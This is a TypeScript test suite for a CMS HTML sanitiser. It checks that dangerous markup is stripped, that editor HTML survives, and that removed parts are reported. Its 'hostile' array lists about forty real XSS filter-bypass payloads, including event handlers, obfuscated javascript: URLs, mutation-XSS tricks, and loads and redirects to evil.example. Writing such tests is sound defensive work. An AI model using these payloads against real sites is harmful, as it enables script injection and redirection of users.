import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { removedFrom, sanitiseContent, sanitiseHtml } from './sanitise.ts';

/**
 * HTML that runs, loads, submits, covers the page or links elsewhere unnoticed, by means that have bypassed filters.
 */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/%09/evil.example" onclick="alert(1)">x</a>',
  '<a href="http://evil.example/">x</a>',
  '<a href="https://evil.example/" target="_blank" rel="opener">x</a>',
  '<p onmouseover="alert(1)" style="position:fixed;inset:0">x</p>',
  '<p style="background:url(//evil.example)" class="btn" id="contenu">x</p>',
  '<form action="//evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p><a href="https://a.example/"onclick=alert(1)>x</a>',
  '<abbr title="&quot; onmouseover=alert(1)">x</abbr>',
  '<xmp><script>alert(1)</script></xmp>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<<script>script>alert(1)<</script>/script>',
  `${'<p>'.repeat(5000)}x`,
];

const allowedHref =
  /^<(?:\/?(?:p|br|ul|ol|li|strong|em|a|abbr|sub|sup|h[234]|table|caption|thead|tbody|tfoot|tr|th|td)(?: (?:href|hreflang|rel|title|lang|scope|colspan|rowspan)="[^"<>]*")*(?: \/)?)>$/;

/** Tags in sanitised HTML that aren't allowed, and links to forbidden destinations. */
function faults(html: string): string[] {
  const tags = html.match(/<[^>]*>?/g) ?? [];
  const links = [...html.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => href);
  return [
    ...tags.filter((tag) => !allowedHref.test(tag)),
    ...links.filter((href) => !/^(?:https:\/\/|\/(?![/\\])|#|mailto:)/.test(href)),
  ];
}

describe('CMS-1 the HTML of content', () => {
  test.each(hostile)('is harmless: %s', (html) => {
    const clean = sanitiseHtml(html);
    expect(faults(clean)).toEqual([]);
    expect(sanitiseHtml(clean)).toBe(clean);
  });

  test('keeps the HTML that editors write', () => {
    const html =
      '<p>Un <strong>colis</strong> de 5\u00A0kg, <a href="/aide#poids">pesé</a>.</p><ul><li>CO<sub>2</sub></li></ul><table><tr><th scope="row">a</th><td>1</td></tr></table>';
    expect(sanitiseHtml(html)).toBe(html);
  });

  test('doesn’t send referrers to other websites', () => {
    expect(sanitiseHtml('<a href="https://a.example/" target="_blank">x</a>')).toBe(
      '<a href="https://a.example/" rel="noopener noreferrer">x</a>',
    );
  });

  test('has only allowed tags whatever the input, and a second pass changes nothing', () => {
    const parts = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '=',
      ' ',
      '/',
      'a',
      'p',
      'script',
      'href',
      'on',
      'javascript:',
      '&',
      ';',
      '!--',
      '-->',
      '\0',
    );
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 30 }), (pieces) => {
        const clean = sanitiseHtml(pieces.join(''));
        expect(faults(clean)).toEqual([]);
        expect(sanitiseHtml(clean)).toBe(clean);
      }),
      { numRuns: 500 },
    );
  });

  test.each([
    ['<p onclick="x()" style="color:red">a<script>b</script></p>', ['onclick', 'style', '<script>']],
    ['<a href="javascript:x" target="_blank">a</a> <a href="/aide">b</a>', ['javascript:x', 'target']],
    ['<DIV><font>a</font></DIV><!-- b -->', ['<!--', '<div>', '<font>']],
    ['<b>a</b> <i lang="en">b</i> <a href="https://a.example/" rel="noopener noreferrer">c</a>', []],
    ['<td colspan="2" width="3">a</td>', ['width']],
    ['a < b & c', []],
  ])('G38 an editor can be told what %s loses', (html, removed) => {
    expect(removedFrom(html)).toEqual(removed);
  });

  test('G38 where nothing is said to be removed, all tags stay', () => {
    const parts = fc.constantFrom(
      '<p>',
      '</p>',
      '<em>',
      '</em>',
      '<b>',
      '</b>',
      '<u>',
      '<td>',
      'a',
      '<br>',
      '<a href="#a">',
      '</a>',
      '<a href="x:y">',
    );
    const tagsOf = (html: string) => (html.match(/<[a-z]+/g) ?? []).map((tag) => tag.replace(/^<b$/, '<strong'));
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 20 }), (pieces) => {
        const html = pieces.join('');
        const said = removedFrom(html);
        // A browser begins a paragraph where one only ends.
        if (said.length === 0) expect(tagsOf(sanitiseHtml(html)).length).toBeGreaterThanOrEqual(tagsOf(html).length);
        else expect(sanitiseHtml(html)).not.toBe(html);
      }),
    );
  });

  test('is sanitised everywhere in a component, and plain texts stay unchanged', () => {
    const bad = '<p onclick="x">a<script>b</script></p>';
    const clean = sanitiseContent({
      contentSlots: [{ components: [{ typeCode: 'FaqComponent', items: [{ question: 'a < b', answer: bad }] }] }],
    });
    expect(clean.contentSlots[0]?.components[0]?.items).toEqual([{ question: 'a < b', answer: '<p>a</p>' }]);
  });
});
